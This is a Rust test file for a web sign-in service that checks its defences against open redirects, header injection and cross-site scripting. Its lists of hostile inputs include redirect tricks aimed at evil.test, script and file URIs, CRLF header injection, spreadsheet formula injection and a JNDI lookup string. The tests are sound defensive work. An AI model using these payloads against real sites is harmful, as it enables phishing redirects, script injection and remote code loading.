//! Where people are sent, and hostile texts: names, problems, references, paths.

use http::StatusCode;
use percent_encoding::percent_decode_str;
use simulated_clio::Person;
use sqlx::PgPool;
use vestibule::db::migrations::MIGRATOR;

use crate::harness::{
    Browser, DANA, PASSWORD, Settings, Site, account_with_password, confirm_link, give_password,
    prompted, signed_in,
};

/// Places that aren't ours, or that browsers take for places that aren't.
const HOSTILE: [&str; 56] = [
    "https://evil.test",
    "http://evil.test/",
    "HTTPS://EVIL.TEST",
    "//evil.test",
    "///evil.test",
    "////evil.test",
    "/\\evil.test",
    "\\/evil.test",
    "\\\\evil.test",
    "/\\/evil.test",
    "/\\\\evil.test",
    "//\\evil.test",
    "/\t/evil.test",
    "/\n/evil.test",
    "/\r/evil.test",
    "\t//evil.test",
    " //evil.test",
    "/ /evil.test",
    "\u{a0}//evil.test",
    "\u{2028}//evil.test",
    "\u{feff}//evil.test",
    "/\u{0}/evil.test",
    "https:evil.test",
    "https:/evil.test",
    "https:\\\\evil.test",
    "http:///evil.test",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "mailto:a@evil.test",
    "file:///etc/passwd",
    "blob:https://evil.test/x",
    "evil.test",
    "evil.test/account",
    ".evil.test",
    "@evil.test",
    "user:pass@evil.test",
    "?next=https://evil.test",
    "#//evil.test",
    "..//evil.test",
    "./evil.test",
    "account",
    "",
    "/account\r\nSet-Cookie: vestibule=evil",
    "/account\r\n\r\n<script>alert(1)</script>",
    "/account\u{0}.evil.test",
    "/é",
    "/\u{202e}tset.live",
    "/auth/sign-out",
    "/auth/clio/start?return_to=//evil.test",
    "/sign-in?return_to=//evil.test",
    "/sign-in",
    "\u{ff0f}\u{ff0f}evil.test",
    "/\u{ff3c}evil.test",
];

fn query(value: &str) -> String {
    form_urlencoded::byte_serialize(value.as_bytes()).collect()
}

/// Whether browsers resolve a `Location` to a path of this site.
fn stays_here(site: &Site, location: &str) -> bool {
    let base = url::Url::parse(&format!("{}/auth/clio/callback", site.public_url)).unwrap();
    base.join(location)
        .is_ok_and(|url| url.origin().ascii_serialization() == site.public_url)
}

#[sqlx::test(migrator = "MIGRATOR")]
async fn a_sign_in_never_leads_off_the_site_whatever_return_to_says(pool: PgPool) {
    let site = Site::start(pool, |_| ()).await;
    site.linked("dana", DANA).await;
    let browser = Browser::new(&site);
    for value in HOSTILE {
        for encoded in [query(value), query(&query(value))] {
            let start = browser
                .get(&format!("/auth/clio/start?return_to={encoded}"))
                .await;
            if start.status == StatusCode::BAD_REQUEST {
                continue;
            }
            assert_eq!(start.status, StatusCode::SEE_OTHER, "{value:?}: {start:?}");
            assert!(
                start.location().starts_with(&site.clio.authorization_url()),
                "{value:?}"
            );
            let callback = site.clio.authorize(start.location(), "dana").unwrap();
            let reply = browser.finish(&callback).await;
            assert_eq!(reply.location(), "/account", "{value:?} as {encoded}");
            assert_eq!(
                reply
                    .set_cookie("vestibule")
                    .map(|line| line.contains("evil")),
                Some(false)
            );
        }
    }
    // Honest places are kept to the byte.
    for value in [
        "/matters/12?tab=notes&x=%2F%2Fevil",
        "/a//b",
        "/stra%C3%9Fe#part",
        "/account/../matters",
        "/.//x",
    ] {
        let start = format!("/auth/clio/start?return_to={}", query(value));
        let reply = browser.sign_in_at(&site, &start, "dana").await;
        assert_eq!(reply.location(), value);
        assert!(stays_here(&site, reply.location()), "{value}");
    }
}

#[sqlx::test(migrator = "MIGRATOR")]
async fn the_sign_in_page_links_to_no_other_site_whatever_return_to_says(pool: PgPool) {
    let site = Site::start(pool, |_| ()).await;
    let member = signed_in(&site, "dana").await;
    for browser in [Browser::new(&site), member] {
        for value in HOSTILE {
            let reply = browser
                .get(&format!("/sign-in?return_to={}", query(value)))
                .await;
            assert!(
                reply.status == StatusCode::OK || reply.status == StatusCode::BAD_REQUEST,
                "{value:?}: {reply:?}"
            );
            for link in reply.body.split("href=\"").skip(1) {
                let link = link
                    .split('"')
                    .next()
                    .unwrap_or_default()
                    .replace("&amp;", "&");
                let inside = link.starts_with("data:image/svg+xml") || stays_here(&site, &link);
                assert!(inside, "{value:?} gives {link}");
            }
            assert!(!reply.body.contains("<script>"), "{value:?}");
        }
    }
}

#[sqlx::test(migrator = "MIGRATOR")]
async fn a_start_from_another_site_is_shown_the_button_and_carries_only_honest_paths(pool: PgPool) {
    let site = Site::start(pool, |_| ()).await;
    let browser = Browser::new(&site);
    for value in HOSTILE {
        let path = format!("/auth/clio/start?return_to={}", query(value));
        for from in ["cross-site", "same-site"] {
            let reply = browser.send(http::Method::GET, &path, from, None).await;
            if reply.status == StatusCode::BAD_REQUEST {
                continue;
            }
            assert_eq!(
                (reply.status, reply.location()),
                (StatusCode::SEE_OTHER, "/sign-in"),
                "{value:?}"
            );
        }
    }
    let reply = browser
        .send(
            http::Method::GET,
            "/auth/clio/start?return_to=/a?b=c%26d",
            "cross-site",
            None,
        )
        .await;
    assert_eq!(reply.location(), "/sign-in?return_to=%2Fa%3Fb%3Dc%26d");
    assert_eq!(site.attempts().await, 0);
}

#[sqlx::test(migrator = "MIGRATOR")]
async fn unknown_and_hostile_problem_codes_and_references_are_told_in_general_words(pool: PgPool) {
    let site = Site::start(pool, |_| ()).await;
    let browser = Browser::new(&site);
    for value in [
        "no-such-code",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "",
        "DECLINED",
        "é",
    ] {
        let value = query(value);
        let reply = browser
            .get(&format!("/sign-in?problem={value}&ref={value}"))
            .await;
        assert_eq!(reply.status, StatusCode::OK, "{value}");
        assert!(reply.body.contains("The sign-in didn’t finish"), "{value}");
        assert!(
            !reply.body.contains("<script") && !reply.body.contains("<img"),
            "{value}"
        );
        let forms = browser.get(&format!("/link?problem={value}")).await;
        assert_eq!(forms.status, StatusCode::OK, "{value}");
    }
    for code in [
        "declined",
        "not_ready",
        "client_portal",
        "clio_error",
        "expired",
        "clio_unavailable",
        "not_verified",
        "no_email",
        "not_invited",
        "closed",
        "account_closed",
        "other_person",
    ] {
        let reply = browser
            .get(&format!("/sign-in?problem={code}&ref=7Q4K-92MX"))
            .await;
        assert!(
            reply.body.contains("7Q4K-92MX") && !reply.body.contains("The sign-in didn’t finish"),
            "{code}"
        );
    }
}

const NAMES: [(&str, &str); 12] = [
    (
        "<script>alert(1)</script>",
        "</title><script>alert(2)</script>",
    ),
    ("\"><img src=x onerror=alert(1)>", "' onmouseover='alert(1)"),
    ("\u{202e}tset.live", "\u{2066}x\u{2069}"),
    ("Dana\r\nX-Auth-Role: owner", "Whitlock\r\n\r\n<html>"),
    ("=cmd|'/c calc'!A1", "@SUM(1+1)*cmd"),
    ("{{7*7}}", "${jndi:ldap://evil.test/x}"),
    ("%00%0d%0a", "100%"),
    ("\u{0}Dana\u{0}", "\u{7f}\u{1b}[31m"),
    ("&lt;b&gt;", "&#x202e;"),
    ("<!--", "-->"),
    ("]]>", "<![CDATA["),
    ("नाम", "名前 🦀"),
];

/// Logins at Clio, one for each of the [`NAMES`]: `person-0` and so on.
fn people_of_these_names(settings: &mut Settings) {
    for (number, (first, last)) in NAMES.iter().enumerate() {
        let subject = format!("person-{number}");
        let email = format!("{subject}@harbourlane.test");
        settings
            .people
            .push(Person::new(subject, email).named(*first, *last));
    }
}

#[sqlx::test(migrator = "MIGRATOR")]
async fn hostile_names_break_neither_pages_nor_headers_nor_json(pool: PgPool) {
    let site = Site::start(pool, people_of_these_names).await;
    for (number, names) in NAMES.iter().enumerate() {
        let browser = signed_in(&site, &format!("person-{number}")).await;
        let account = browser.session().await.unwrap()["account"].clone();
        let (first, last) = (
            account["first_name"].as_str().unwrap(),
            account["last_name"].as_str().unwrap(),
        );
        for name in [first, last] {
            assert!(
                !name
                    .chars()
                    .any(|c| c.is_control() || ('\u{202a}'..='\u{2069}').contains(&c)),
                "{names:?}: {name:?}"
            );
        }
        for path in ["/welcome", "/account", "/sign-in"] {
            let page = browser.get(path).await;
            for markup in [
                "<script>alert",
                "<img",
                "<b>",
                "</title><script",
                "<![CDATA[",
            ] {
                assert!(!page.body.contains(markup), "{path} {names:?}: {markup}");
            }
            assert_eq!(
                page.body.matches("</html>").count(),
                usize::from(page.status == StatusCode::OK),
                "{path} {names:?}"
            );
        }
        let verify = browser.get("/auth/verify").await;
        assert_eq!(verify.status, StatusCode::OK);
        assert_eq!(verify.header("x-auth-role"), "member");
        let shown = verify.header("x-auth-name");
        assert!(
            shown.bytes().all(|b| matches!(b, 0x20..=0x7e)),
            "{names:?}: {shown}"
        );
        let expected = [first, last]
            .iter()
            .filter(|name| !name.is_empty())
            .copied()
            .collect::<Vec<_>>()
            .join(" ");
        if expected.bytes().all(|b| matches!(b, 0x20..=0x7e)) && !expected.is_empty() {
            assert_eq!(shown, expected, "plain text stays as it is");
        } else if !expected.is_empty() {
            assert_eq!(
                percent_decode_str(shown).decode_utf8().unwrap(),
                expected,
                "{names:?}"
            );
        }
    }
}

#[sqlx::test(migrator = "MIGRATOR")]
async fn hostile_names_break_neither_the_prompt_nor_its_mail(pool: PgPool) {
    let site = Site::start(pool, |settings| {
        settings.set("FIRM_NAME", "Harbour & <Lane> \"Söhne\" =cmd()");
        people_of_these_names(settings);
    })
    .await;
    for (number, names) in NAMES.iter().enumerate() {
        account_with_password(&site, &format!("person-{number}@harbourlane.test")).await;
        let browser = prompted(&site, &format!("person-{number}")).await;
        let page = browser.get("/link").await;
        for markup in ["<script>alert", "<img", "<b>", "</title><script", "<Lane>"] {
            assert!(!page.body.contains(markup), "{names:?}: {markup}");
        }
        give_password(&browser, PASSWORD).await.leads_to("/link");
        let page = browser.get("/link").await;
        for markup in ["<script>alert", "<img", "<b>", "</title><script", "<Lane>"] {
            assert!(!page.body.contains(markup), "{names:?}: {markup}");
        }
        let reply = confirm_link(&browser).await;
        assert_eq!(reply.location(), "/account", "{names:?}");
    }
    let subjects: Vec<String> = sqlx::query_scalar("SELECT subject FROM mail_outbox")
        .fetch_all(&site.pool)
        .await
        .unwrap();
    assert_eq!(subjects.len(), NAMES.len());
    assert!(
        subjects
            .iter()
            .all(|subject| !subject.chars().any(char::is_control))
    );
}

#[sqlx::test(migrator = "MIGRATOR")]
async fn a_hostile_user_agent_and_address_break_nothing(pool: PgPool) {
    let site = Site::start(pool, |_| ()).await;
    let long = "<script>".repeat(800);
    for agent in [
        "<script>alert(1)</script>",
        "\"'><b>",
        "",
        "caf\u{e9}",
        long.as_str(),
    ] {
        let browser = Browser::new(&site).with_header("user-agent", agent);
        browser.sign_in(&site, "dana").await;
        let page = browser.get("/account").await;
        assert_eq!(page.status, StatusCode::OK, "{agent:?}");
        assert!(
            !page.body.contains("<script>") && !page.body.contains("<b>"),
            "{agent:?}"
        );
    }
}
